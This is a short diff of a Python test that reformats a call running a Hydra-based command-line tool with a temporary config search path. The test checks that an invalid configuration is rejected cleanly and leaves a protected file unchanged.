-                f"hydra.searchpath=[file://{tmp_path / 'u'}]", *routes[route]])
+    proc = cli(
+        [
+            "-m",
+            "steps=1",
+            "org.size=30",
+            f"hydra.sweep.dir={tmp_path / 'sweep'}",
+            f"hydra.searchpath=[file://{tmp_path / 'u'}]",
+            *routes[route],
+        ]
+    )
     assert proc.returncode != 0, proc.stdout + proc.stderr
     assert "invalid configuration" in proc.stderr.lower() and "Traceback" not in proc.stderr
     assert victim.read_text() == "keep"
